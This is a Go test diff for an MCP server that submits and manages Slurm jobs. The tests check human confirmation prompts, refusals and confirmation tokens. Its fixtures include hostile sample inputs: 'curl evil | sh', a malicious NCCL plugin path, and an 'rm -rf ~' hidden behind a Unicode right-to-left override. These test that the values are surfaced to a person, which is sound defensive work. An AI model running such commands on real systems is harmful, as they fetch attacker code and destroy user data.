@@ -139,7 +139,7 @@ func TestWhatIsBeyondTheLimitsNeedsMoreThanAToken(t *testing.T) {
 		}
 		return ""
 	}
-	cfg.Policy = mcp.Policy{Beyond: big}
+	cfg.Policy = mcp.Policy{Beyond: big, Tokens: true}
 	bigSpec := strings.Replace(goodSpec, `"nodes":2`, `"nodes":4`, 1)
 	as := func() *client {
 		return connect(t, serve(t, cfg, mcp.HTTP{Tokens: map[string]ops.Caller{"t": alice}}), map[string]string{"Authorization": "Bearer t"})
@@ -164,10 +164,108 @@ func TestWhatIsBeyondTheLimitsNeedsMoreThanAToken(t *testing.T) {
 	require.Len(t, s.subs, 1)
 	require.Equal(t, []string{"alice submit", "alice submit"}, asked)
 
-	cfg.Policy = mcp.Policy{Refuse: true}
+	cfg.Policy = mcp.Policy{}
 	r = as().do("submit", submitArgs(goodSpec, ""))
 	require.Contains(t, r.Text, "cannot ask one")
 	require.Len(t, s.subs, 1)
+}
+
+// Unless the operator says otherwise, a client that cannot ask its person
+// changes nothing, and is given no token with which it could say yes itself.
+func TestAClientThatCannotAskChangesNothing(t *testing.T) {
+	s := newSite()
+	cfg, audit := config(t, s)
+	cfg.Policy = mcp.Policy{}
+	cfg.Caller.Operator = true
+	c := connect(t, serve(t, cfg, mcp.HTTP{Tokens: map[string]ops.Caller{"t": alice}}), map[string]string{"Authorization": "Bearer t"})
+	require.NotContains(t, c.do("plan", submitArgs(goodSpec, "")).Structured, "confirm_token")
+	for tool, args := range map[string]string{
+		"submit": submitArgs(goodSpec, ""), "cancel": `{"job":"4711"}`, "run": `{"job":"4711","argv":["true"]}`,
+		"update": `{"job":"4711","time":"1:00:00"}`, "hold": `{"job":"4711"}`,
+	} {
+		r := c.do(tool, args)
+		require.True(t, r.IsError, tool)
+		require.Equal(t, "not_allowed", r.Structured["error"].(map[string]any)["code"], tool)
+		require.NotContains(t, r.Structured, "confirm_token", tool)
+	}
+	require.Empty(t, *audit)
+	require.Empty(t, s.subs)
+	require.Equal(t, slurm.Running, s.jobs["4711"].State)
+}
+
+// What a person is asked holds everything that decides: each word that is run,
+// each value that changes beside the old one, and what the job would take.
+func TestAQuestionShowsWhatDecides(t *testing.T) {
+	long := strings.Repeat("x", 3000)
+	spec := strings.Replace(goodSpec, `"nodes":2`, `"nodes":4,"time":"24:00:00","array":"1-10","env":{"NCCL_NET_PLUGIN":"/tmp/evil.so"},`+
+		`"launcher":"custom","launcher_argv":["bash","-c","curl evil | sh; `+long+`"]`, 1)
+	for _, c := range []struct {
+		tool, args string
+		want       []string
+	}{
+		{"submit", `{"spec":` + spec + `,"force":true}`, []string{
+			`submit "gpt": 4 nodes × 8 GPUs × 24h0m0s = 768 GPU hours, for each task of the array 1-10?`,
+			"launcher_argv: bash -c 'curl evil | sh; " + long + "'", "env: NCCL_NET_PLUGIN=/tmp/evil.so", "force: true", "--tensor-model-parallel-size 4", "partition: prod", "sha256",
+		}},
+		{"run", `{"job":"4711","argv":["bash","-c","echo ` + long + `\u202e; rm -rf ~"]}`, []string{
+			`run job 4711 "gpt-7b" of alice: RUNNING, 2 nodes, 16 GPUs`, `argv: bash -c "echo ` + long + `\u202e; rm -rf ~"`,
+		}},
+		{"update", `{"job":"4711","time":"1:00:00","partition":"dev"}`, []string{"time: 24h0m0s → 1:00:00", "partition: prod → dev"}},
+	} {
+		s := newSite()
+		cfg, _ := config(t, s)
+		conv := converse(t, cfg)
+		conv.send(asking(hello))
+		conv.read()
+		conv.send(`{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"` + c.tool + `","arguments":` + c.args + `}}`)
+		question := conv.read()
+		require.Equal(t, "elicitation/create", question["method"], question)
+		message := question["params"].(map[string]any)["message"].(string)
+		for _, want := range c.want {
+			require.Contains(t, message, want, c.tool)
+		}
+		conv.send(fmt.Sprintf(`{"jsonrpc":"2.0","id":%v,"result":{"action":"cancel"}}`, question["id"]))
+		conv.read()
+		conv.close()
+		require.Empty(t, s.subs)
+	}
+}
+
+// More words than a person reads in a form are not asked about at all.
+func TestACallTooLongToJudgeIsRefused(t *testing.T) {
+	cfg, _ := config(t, newSite())
+	conv := converse(t, cfg)
+	conv.send(asking(hello))
+	conv.read()
+	conv.send(`{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"run","arguments":{"job":"4711","argv":["bash","-c","` + strings.Repeat("x", 17<<10) + `"]}}}`)
+	raw, err := json.Marshal(conv.read())
+	require.NoError(t, err)
+	require.Contains(t, string(raw), "too many for a person to judge")
+	conv.close()
+}
+
+// A token that a client without a person was given is worth nothing where the
+// client can ask.
+func TestAClientThatCanAskHasNoUseForAToken(t *testing.T) {
+	s := newSite()
+	cfg, _ := config(t, s)
+	quiet := converse(t, cfg)
+	quiet.send(hello)
+	quiet.read()
+	quiet.send(`{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"plan","arguments":` + submitArgs(goodSpec, "") + `}}`)
+	planned := quiet.read()["result"].(map[string]any)["structuredContent"].(map[string]any)
+	token := planned["confirm_token"].(string)
+	quiet.close()
+	conv := converse(t, cfg)
+	conv.send(asking(hello))
+	conv.read()
+	conv.send(`{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"submit","arguments":` + submitArgs(goodSpec, token) + `}}`)
+	question := conv.read()
+	require.Equal(t, "elicitation/create", question["method"], question)
+	conv.send(fmt.Sprintf(`{"jsonrpc":"2.0","id":%v,"result":{"action":"decline"}}`, question["id"]))
+	conv.read()
+	conv.close()
+	require.Empty(t, s.subs)
 }
 
 func TestCancellingSomebodyElsesJobIsRefused(t *testing.T) {
